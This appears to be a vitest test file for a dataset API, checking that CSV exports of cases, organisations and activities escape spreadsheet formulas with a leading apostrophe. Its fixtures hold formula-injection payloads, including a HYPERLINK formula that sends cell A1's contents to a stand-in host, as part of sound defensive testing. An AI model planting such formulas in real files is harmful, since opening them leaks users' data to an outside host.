import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type TestServer, testServer } from "./running-server.ts";

const formula = '=HYPERLINK("http://x.example/?"&A1,"open")';
const rows = `activity,activity_kind,activity_name,activity_from,activity_to,organisation,organisation_name,organisation_kind,country,role
a1,consortium,@SUM(A1:A9),2019,2020,o1,-2+3,company,KR,lead
a1,consortium,@SUM(A1:A9),2019,2020,o2,"${formula.replaceAll('"', '""')}",company,KR,participant
a1,consortium,@SUM(A1:A9),2019,2020,o3,Delta,company,KR,participant
`;

let server: TestServer;
beforeAll(async () => {
  server = await testServer({ rows });
});
afterAll(() => server.close());

async function table(path: string): Promise<Record<string, string>[]> {
  const text = await (await fetch(`${server.url}/api/v1/datasets/small/${path}`)).text();
  return parse(text, { columns: true, comment: "#", comment_no_infix: true });
}

test("what a broker wrote is text where the table of cases is opened", async () => {
  const opened = await fetch(`${server.url}/api/v1/datasets/small/journal`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ kind: "case", body: { company: "o1", need: formula, field: "other" } }),
  });
  expect(opened.status).toBe(201);
  const [{ need }] = await table("cases?format=csv");
  expect(need).toBe(`'${formula}`);
});

test("so is what names were loaded", async () => {
  const names = (await table("organisations?format=csv")).map(({ name }) => name);
  expect(names).toEqual(["'-2+3", `'${formula}`, "Delta"]);
  expect((await table("activities?format=csv"))[0].name).toBe("'@SUM(A1:A9)");
});
